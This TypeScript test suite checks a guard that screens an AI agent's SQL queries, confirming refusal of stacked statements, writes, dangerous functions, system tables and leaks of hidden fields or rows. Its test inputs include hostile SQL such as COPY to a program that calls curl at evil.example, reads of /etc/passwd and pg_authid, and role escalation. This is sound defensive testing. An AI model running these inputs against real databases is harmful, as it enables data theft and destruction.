import * as fc from "fast-check";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { type House, MARKER, rowsOf, said, sqlHouse } from "./house.ts";

let house: House;

beforeAll(async () => {
  house = await sqlHouse();
});

afterAll(() => house.close());

/** Whatever was tried: the records are as they were. */
afterEach(async () => {
  const { rows } = await house.owner.query(
    "select count(*)::int as n, count(*) filter (where notes = 'hidden-marker')::int as same from customers",
  );
  expect(rows).toEqual([{ n: 4, same: 4 }]);
});

/** The path says no before anything is sent. */
async function refuses(sql: string, why: RegExp): Promise<void> {
  expect(said(await house.query(sql))).toMatch(new RegExp(`^statement_refused .*${why.source}`));
}

/** The database finds nothing of that name in what it was sent. */
async function findsNothing(sql: string): Promise<void> {
  expect(said(await house.query(sql))).toMatch(/^-32000 .*\(42(703|P01|883)\)/);
}

async function answersNoMarker(sql: string): Promise<void> {
  expect(JSON.stringify(rowsOf(await house.query(sql)))).not.toContain(MARKER);
}

describe("more than one statement", () => {
  test("stacked statements are refused", () => refuses("select id from customers; delete from customers", /more than one statement/));
  test("a statement behind a comment is refused", () =>
    refuses("select id from customers -- \n; drop table customers", /more than one statement/));
  test("what a comment hides is no part of the statement", async () => {
    expect(rowsOf(await house.query("select id /* , notes from customers; -- */ from customers where tier = 1 -- or true"))).toEqual([
      { id: "C-1" },
    ]);
  });
  test("a prepared statement cannot be made", () => refuses("prepare p as select notes from customers", /`prepare`/));
  test("a prepared statement cannot be run", () => refuses("execute p", /`execute`/));
  test("a transaction cannot be ended", () => refuses("commit", /`transaction`/));
});

describe("statements that are no query", () => {
  test("COPY to a program is refused", () => refuses("copy (select * from customers) to program 'curl evil.example'", /`copy`/));
  test("COPY to the client is refused", () => refuses("copy customers to stdout", /`copy`/));
  test("SET ROLE is refused", () => refuses("set role postgres", /`variable set`/));
  test("RESET and SET search_path are refused", () => refuses("set search_path = public", /`variable set`/));
  test("SHOW is refused", () => refuses("show data_directory", /`variable show`/));
  test("EXPLAIN ANALYZE is refused", () => refuses("explain analyze select 1", /`explain`/));
  test("DO is refused", () => refuses("do $$ begin delete from customers; end $$", /`do`/));
  test("CALL is refused", () => refuses("call anything()", /`call`/));
  test("LISTEN is refused", () => refuses("listen channel", /`listen`/));
  test("DECLARE CURSOR is refused", () => refuses("declare c cursor for select * from customers", /`declare cursor`/));
  test.each(["insert into customers (id) values ('x')", "update customers set notes = ''", "delete from customers", "truncate customers"])(
    "a write is refused: %s",
    (sql) => refuses(sql, /only one `select` may be sent/),
  );
  test("VALUES alone is refused", () => refuses("values (1)", /it reads no table/));
});

describe("writes and locks inside of a query", () => {
  test("a CTE that updates is refused", () =>
    refuses("with x as (update customers set notes = '' returning notes) select * from x", /`update`/));
  test("a CTE that deletes is refused", () => refuses("with x as (delete from customers returning *) select * from x", /`delete`/));
  test("SELECT INTO is refused", () => refuses("select * into stolen from customers", /`into`/));
  test("FOR UPDATE is refused", () => refuses("select id from customers for update", /`for update`/));
});

describe("functions", () => {
  test.each([
    "set_config('role', 'postgres', false)",
    "current_setting('data_directory')",
    "pg_sleep(1)",
    "pg_read_file('/etc/passwd')",
    "pg_catalog.pg_ls_dir('.')",
    "pg_terminate_backend(1)",
    "query_to_xml('select notes from public.customers', true, true, '')",
    "lo_import('/etc/passwd')",
    "nextval('x')",
    "dblink('', 'select 1')",
    "pg_advisory_lock(1)",
    "version()",
    "txid_current()",
    "ts_stat('select notes from public.customers')",
  ])("one that reaches beyond the rows is refused: %s", (call) =>
    refuses(`select ${call} from customers`, /it is no function that a query here may call/),
  );
  test("a function of the database's own is refused", () => refuses("select public.spy() from customers", /`public.spy`/));
  test("a function of the database's own under a known name is not the one that runs", async () => {
    expect(rowsOf(await house.query("select upper(name) as u from customers where id = 'C-1'"))).toEqual([{ u: "ADA" }]);
  });
  test("a function in `from` is refused", () =>
    refuses("select * from customers, pg_ls_dir('.') f", /`pg_ls_dir`: it may not stand in `from`|no function/));
  test("a function called by a dot behind a value is refused", () => refuses("select ('.'::text).pg_ls_dir from customers", /pg_ls_dir/));
  test("a function called by a dot behind a row of `unnest` is not found", () =>
    findsNothing("select x.to_regclass from customers, unnest(array['.']) x"));
  test.each(["pg_column_size", "pg_restore_relation_stats"])(
    "a function of the server called by a dot behind a table is refused: %s",
    (name) => refuses(`select c.${name} from customers c`, /it may be a function of the server/),
  );
  test("a function called by a dot behind a column is refused", () =>
    refuses("select (customers.name).pg_read_file from customers", /pg_read_file/));
  test("who is logged in is not told", () => refuses("select current_user from customers", /`current_user`/));
  test("an operator out of a schema is refused", () => refuses("select id operator(public.+) 1 from customers", /`public.\+`/));
  test("ordering by an operator of one's own is refused", () =>
    refuses("select id from customers order by id using operator(public.<)", /order by/));
  test("XMLTABLE is refused", () => refuses("select * from customers, xmltable('/' passing '<a/>' columns a text)", /xmltable/));
});

describe("hidden fields", () => {
  test("an alias finds nothing", () => findsNothing("select notes as remark from customers"));
  test("a table's alias finds nothing", () => findsNothing("select c.notes from customers as c"));
  test("row_to_json shows what the view shows", () => answersNoMarker("select row_to_json(c) as r from customers c"));
  test("a whole row shows what the view shows", () => answersNoMarker("select c from customers c"));
  test("a whole row as text shows what the view shows", () =>
    answersNoMarker("select c::text as t, to_jsonb(c) as j, array_agg(c)::text as a from customers c group by c"));
  test("`table customers` shows what the view shows", () => answersNoMarker("table customers"));
  test("a star shows what the view shows", () => answersNoMarker("select customers.*, c.* from customers, customers c limit 0"));
  test("a field taken out of a row is refused", () => refuses("select (c).notes from customers c", /a column is written/));
  test("all fields taken out of a row are refused", () => refuses("select (c).* from customers c", /a column is written/));
  test("ORDER BY finds nothing", () => findsNothing("select id from customers order by notes"));
  test("ORDER BY a masked field orders by what is shown", async () => {
    const rows = rowsOf(await house.query("select ssn from customers order by ssn desc"));
    expect(rows.map(({ ssn }) => ssn)).toEqual(["*******6789", "*******4321"]);
  });
  test("a condition over a masked field sees what is shown", async () => {
    expect(rowsOf(await house.query("select id from customers where ssn = '123-45-6789' or ssn like '123%'"))).toEqual([]);
  });
  test("a cast of a masked field sees what is shown", () =>
    answersNoMarker("select ssn::text as s, email::varchar(200) as e from customers"));
  test("GROUP BY finds nothing", () => findsNothing("select count(*) from customers group by notes"));
  test("a window finds nothing", () => findsNothing("select row_number() over (order by notes) from customers"));
  test("CASE finds nothing", () => findsNothing("select case when notes like 'h%' then 1 end from customers"));
  test("NATURAL JOIN joins by what is shown", () => answersNoMarker("select count(*) as n from customers natural join customers c"));
  test("USING finds nothing", () => findsNothing("select 1 from customers a join customers b using (notes)"));
  test("a system column finds nothing", () => findsNothing("select ctid, xmin from customers"));
  test("column aliases rename what is shown and nothing else", () => answersNoMarker("select * from customers as c(a, b, d, e, f, g)"));
  test("JSON operators find nothing", async () => {
    expect(rowsOf(await house.query("select to_jsonb(c) ->> 'notes' as n from customers c"))).toEqual([{ n: null }, { n: null }]);
  });
  test("a cast to a row type is refused", () => refuses("select c::customers from customers c", /`customers`: it is no type/));
  test("a cast that looks names up is refused", () => refuses("select 'secrets'::regclass from customers", /`regclass`: it is no type/));
});

describe("other tables", () => {
  test("one that the action is not over is refused", () => refuses("select * from secrets", /`secrets`: it is no table/));
  test("one in another schema is refused", () => refuses("select * from other.customers, customers", /`other.customers`/));
  test("a view is refused", () => refuses("select * from spying", /`spying`/));
  test("the system's own are refused", () => refuses("select * from pg_catalog.pg_authid", /`pg_catalog.pg_authid`/));
  test("the system's own without a schema are refused", () => refuses("select * from pg_stats, customers", /`pg_stats`/));
  test("the information schema is refused", () => refuses("select * from information_schema.columns", /`information_schema.columns`/));
  test("a CTE that takes the name of a declared table is refused", () =>
    refuses("with secrets as (select 1) select * from secrets, customers", /may not take the name/));
  test("a CTE that takes a name of the system is refused", () =>
    refuses("with pg_authid as (select 1) select * from pg_authid, customers", /may not take the name/));
  test("a CTE is found only where it is in scope", () =>
    refuses("select * from customers, (with x as (select 1) select * from x) y, x", /`x`: it is no table/));
  test("a CTE is not found before it is written", () =>
    refuses("with a as (select * from b), b as (select 1) select * from a, customers", /`b`/));
  test("a quoted name is another name", () => refuses('select * from "Customers"', /`Customers`/));
  test("a name in Unicode escapes is the name that it spells", () => refuses('select * from U&"\\0073ecrets", customers', /`secrets`/));
  test("a table of another database is refused", () => refuses("select * from postgres.public.customers", /./));
  test("ONLY is refused", () => refuses("select * from only customers", /`only`/));
  test("TABLESAMPLE is refused", () => refuses("select * from customers tablesample system (100)", /`tablesample`/));
  test("a column with a schema before it is refused", () =>
    refuses("select public.customers.notes from public.customers", /a column is written/));
  test("a table with its own schema is the view", () => answersNoMarker("select * from public.customers"));
});

describe("hidden records", () => {
  test("cannot be asked for by a condition that always holds", async () => {
    expect(rowsOf(await house.query("select id from customers where true or region = 'amer' order by id"))).toEqual([
      { id: "C-1" },
      { id: "C-2" },
    ]);
  });
  test("are not in aggregates", async () => {
    expect(rowsOf(await house.query("select count(*) as n, max(tier) as t from customers"))).toEqual([{ n: 2, t: 2 }]);
    expect(rowsOf(await house.query("select max(total) as t from orders"))).toEqual([{ t: 200 }]);
  });
  test("are not told by an error: a division by a hidden zero does not happen", async () => {
    expect(rowsOf(await house.query("select id from customers where 1 / balance > 0 order by id"))).toEqual([{ id: "C-1" }, { id: "C-2" }]);
    expect(rowsOf(await house.query("select 1 / balance > 0 as t from customers"))).toHaveLength(2);
    expect(rowsOf(await house.query("select c.id from orders o join customers c on 1 / c.balance > 0 and o.customer = c.id"))).toHaveLength(
      2,
    );
  });
  test("are not told by an error where the planner finds the agent's condition cheaper than the policy's", async () => {
    const rows = 'resource.balance.greaterThan(decimal("0.5")) && resource.name != "nobody"';
    const role = `role: support\nreason: works\nallow:\n  - { do: tickets:read, rows: '${rows}' }\n  - do: tickets:query\n`;
    const other = await sqlHouse({ "roles/support.yaml": role });
    try {
      expect(rowsOf(await other.query("select id from customers where 1 / balance > 0 order by id"))).toEqual([
        { id: "C-1" },
        { id: "C-2" },
      ]);
    } finally {
      await other.close();
    }
  });
  test("are not told by a cast that fails on them", async () => {
    expect(
      rowsOf(await house.query("select id from customers where (case when name in ('Ada', 'Bob') then '1' else name end)::int4 = 1")),
    ).toHaveLength(2);
  });
  test("of another tenant are not in the view either", () =>
    answersNoMarker("select to_jsonb(o) as o, to_jsonb(c) as c from orders o left join customers c on true"));
});

describe("what costs too much", () => {
  test("is not run", () =>
    refuses("select count(*) from customers, generate_series(1, 100000000) a, generate_series(1, 100000) b", /to cost more than 50000/));
  test("ends after the action's time when the planner did not see it", async () => {
    expect(
      said(await house.query("select count(*) from customers, generate_series(1, (select 2000000000 + max(tier) from customers)) a")),
    ).toMatch(/cost more|took longer than 3000 ms/);
  });
  test("recursion is refused", () =>
    refuses("with recursive r(n) as (select 1 union all select n + 1 from r) select * from r, customers", /`with recursive`/));
  test("a text that nests without end is refused", () =>
    refuses(`select ${"not ".repeat(5000)} true from customers`, /more than 1000 words|more than 20000/));
  test("a text at the limit of words does not end the parser", async () => {
    await refuses(`select ${"not ".repeat(990)} true from customers`, /./).catch(() => undefined);
    expect(rowsOf(await house.query("select id from customers where id = 'C-1'"))).toEqual([{ id: "C-1" }]);
  });
  test("a text too long is refused", () => refuses(`select '${"x".repeat(30_000)}' from customers`, /more than 20000 characters/));
  test("a character that PostgreSQL does not take is refused", () => refuses("select '\u0000' from customers", /a character/));
});

test("a refusal says where, and repeats nothing but the word", async () => {
  const answer = said(await house.query("select 'a secret value', name, pg_sleep(5) from customers"));
  expect(answer).toContain("`pg_sleep`: it is no function that a query here may call (at character 32)");
  expect(answer).not.toContain("a secret value");
});

describe("any query at all", () => {
  const column = fc.constantFrom("id", "name", "ssn", "email", "city", "extra", "tags", "balance", "tier", "notes", "c", "ctid");
  const form = fc.constantFrom(
    "c.$",
    "c.$::text",
    "to_jsonb(c.$)",
    "count(c.$)",
    "string_agg(c.$::text, ',')",
    "case when c.$ is not null then c.$::text end",
    "coalesce(c.$::text, 'x')",
    "array_agg(c.$)",
    "row_to_json(c)",
    "max(c.$::text) over ()",
    "(c).$",
    "(select c.$)",
    "to_jsonb(c) -> '$'",
  );
  const asked = fc.tuple(form, column).map(([text, name]) => text.replaceAll("$", name));
  const from = fc.constantFrom(
    "customers c",
    "public.customers c",
    "customers c join orders o on true",
    "(select * from customers) c",
    "x c",
    "customers as c(a, b, name)",
    "customers c left join customers d on d.name = c.name",
    "customers d, lateral (select d.*) c",
    "secrets c",
    "spying c",
  );
  const end = fc.constantFrom(
    "",
    "where true",
    "where c.region = 'amer'",
    "where 1 / c.balance > 0",
    "where exists (select name from customers)",
    "group by c.id",
    "order by 1",
    "where c.notes like 'h%'",
    "union all select name from customers",
    "limit 3 offset 1",
    "group by c",
  );
  test("never answers what is hidden", async () => {
    let answered = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(asked, { minLength: 1, maxLength: 2 }), from, end, async (list, source, last) => {
        const names = list.map((text, at) => `${text} as r${String(at)}`).join(", ");
        const answer = await house.query(
          `${source === "x c" ? "with x as (select * from customers) " : ""}select ${names} from ${source} ${last}`,
        );
        if (answer.kind === "result") answered += 1;
        expect(JSON.stringify(answer)).not.toContain(MARKER);
      }),
      { numRuns: 250 },
    );
    // Queries that all fail would show nothing.
    expect(answered).toBeGreaterThan(40);
  });
});
